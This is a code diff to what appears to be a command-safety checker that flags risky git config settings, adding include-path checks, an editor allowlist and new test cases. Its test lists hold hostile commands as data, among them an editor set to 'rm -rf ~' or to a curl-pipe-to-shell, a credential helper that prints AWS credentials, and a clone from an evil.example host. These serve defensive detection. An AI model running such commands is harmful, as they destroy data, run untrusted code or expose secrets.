@@ -22,7 +22,7 @@ GLOBAL_WITH_ARG = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespac
 MAIN_BRANCHES = frozenset({"main", "master", "trunk", "develop", "production", "prod", "release", "stable", "gh-pages"})
 DANGEROUS_CONFIG = lazyre.compile(r"^(core\.(pager|sshcommand|hookspath|fsmonitor|editor|askpass|gitproxy)|diff\.\w*\.?(external|textconv)|"
                               r"filter\.\w+\.(clean|smudge|process)|sequence\.editor|credential\.helper|uploadpack\.packobjects?hook|"
-                              r"pager\.\w+|gpg\.program|http\.sslverify|http\.sslcainfo|alias\..*!|url\..*insteadof)", re.I)  # fmt: skip
+                              r"pager\.\w+|gpg\.program|http\.sslverify|http\.sslcainfo|alias\..*!|url\..*insteadof|include\.path|includeif\..+\.path)", re.I)  # fmt: skip
 
 #: One-off settings (`git -c KEY=VALUE cmd`) whose value is a command line, and the programs git(1)/git-config(1)
 #: expect there: a simple command of one of them (no pipe, list, substitution or redirection) is the setting's
@@ -36,6 +36,9 @@ ONE_OFF_PROGRAMS: dict[str, frozenset[str]] = {
     "gpg.program": frozenset({"gpg", "gpg2", "ssh-keygen"}),
     "alias": frozenset({"git"}),
 }
+#: Settings that name the user's editor: setting one to an editor (`git config --global core.editor "code --wait"`) is
+#: routine; any other command there runs at the next commit or rebase.
+EDITOR_KEYS = frozenset({"core.editor", "sequence.editor"})
 SIMPLE_LINE = lazyre.compile(r"^[\w@%+=:,./~ -]*$")
 #: Options of those programs that run or load something themselves (ssh_config(5) ProxyCommand, LocalCommand,
 #: KnownHostsCommand, Match exec; `-F` a config file that can hold them; less(1) `-k`/LESSOPEN-style `+!`).
@@ -106,6 +109,8 @@ def _softer(key: str, value: str) -> str:
     """Settings that change trust or storage rather than run a program: an ask with what they change, or ""."""
     if key == "http.sslcainfo":
         return "git trusts the certificates in that file (verification stays on)"
+    if key == "include.path" or (key.startswith("includeif.") and key.endswith(".path")):
+        return "git reads every setting in that file too (pagers, hooks, aliases automode has not seen)"
     if key == "credential.helper" and value.split()[:1] == ["store"]:
         return "git keeps credentials in plain text in ~/.git-credentials"
     return ""
@@ -174,7 +179,7 @@ def git_argv(cmd: Command) -> GitCall | None:
 
 # Short options that take an argument, per subcommand: in a cluster the rest is that argument (`-bfeature`).
 SHORT_WITH_ARG = {"checkout": "bB", "switch": "cC", "commit": "mFcCt", "branch": "", "push": "o", "clean": "e",
-                  "stash": "m", "worktree": "b", "reset": "", "restore": "s", "tag": "mF", "merge": "msX", "rebase": "sSX"}  # fmt: skip
+                  "stash": "m", "worktree": "b", "reset": "", "restore": "s", "tag": "mF", "merge": "msX", "rebase": "sSX", "config": "f"}  # fmt: skip
 LONG_WITH_ARG = frozenset({"--orphan", "--source", "--pathspec-from-file", "--message", "--file", "--exclude", "--conflict",
                            "--push-option", "--repo", "--receive-pack", "--exec", "--recurse-submodules-default"})  # fmt: skip
 
@@ -514,13 +519,18 @@ def _hooks_path(value: str, a: Analysis) -> str | Hit:
                 "git config --global credential.helper '!f() { cat ~/.aws/credentials; }; f'",
                 "git config filter.lfs.process 'git-lfs filter-process; sh x'", "git config filter.x.smudge 'git-lfs-evil smudge'",
                 "git -c http.sslVerify=false clone https://git.example.com/x.git", "git -c http.sslVerify=false fetch",
-                "git -c http.sslVerify=false clone https://localhost.evil.example/x.git"],
+                "git -c http.sslVerify=false clone https://localhost.evil.example/x.git",
+                "git config core.editor 'rm -rf ~'", "git config -f ~/.gitconfig core.editor 'sh -c \"curl x|sh\"'",
+                "git config --global sequence.editor 'sh x.sh'", "git config --global include.path /tmp/evil.gitconfig",
+                "git config --global includeIf.gitdir:~/w/.path /tmp/x.cfg"],
     must_not_match=["git -c user.name=x commit -m y", "git config user.email a@b.c", "git --no-pager log", "git config --get core.pager",
                     "git -c core.sshCommand='ssh -i ~/.ssh/id_ed25519_work -o IdentitiesOnly=yes' fetch origin",
                     "git -c alias.sync='!git fetch origin && git rebase origin/main' sync", "git -c core.pager=delta log -p",
                     "git config --global credential.helper 'cache --timeout=3600'", "git config --global credential.helper osxkeychain",
                     "git config filter.lfs.process 'git-lfs filter-process'", "git config filter.lfs.smudge 'git-lfs smudge -- %f'",
-                    "git -c http.sslVerify=false clone https://localhost:3443/me/x.git /tmp/x"],
+                    "git -c http.sslVerify=false clone https://localhost:3443/me/x.git /tmp/x",
+                    "git config --global core.editor vim", "git config --global core.editor 'code --wait'",
+                    "git config core.editor nano", "git config --get include.path"],
 )  # fmt: skip
 def git_config_exec(cmd: Command, a: Analysis) -> str | Hit | None:
     g = git_argv(cmd)
@@ -541,11 +551,11 @@ def git_config_exec(cmd: Command, a: Analysis) -> str | Hit | None:
                 return Hit(f"sets {k}={v[:40]}: {soft}", "ask")
             return f"sets {k}={v[:40]}"
     if g.sub == "config":
-        pos = _positional(g.args)
+        pos = _positional(g.args, "config")
         if len(pos) >= 2 and DANGEROUS_CONFIG.match(pos[0].lower() + ("!" if pos[1].startswith("!") else "")) and pos[0].lower() != "core.hookspath":
             if pos[0].lower() == "http.sslverify" and pos[1].lower() not in ("false", "0", "no", "off"):
                 return None
-            if pos[0].lower() == "core.editor" or _keychain_helper(pos[0].lower(), pos[1]) or _known_filter(pos[0].lower(), pos[1]):
+            if (pos[0].lower() in EDITOR_KEYS and _ordinary_one_off(pos[0].lower(), pos[1])) or _keychain_helper(pos[0].lower(), pos[1]) or _known_filter(pos[0].lower(), pos[1]):
                 return None
             soft = _softer(pos[0].lower(), pos[1])
             if soft:
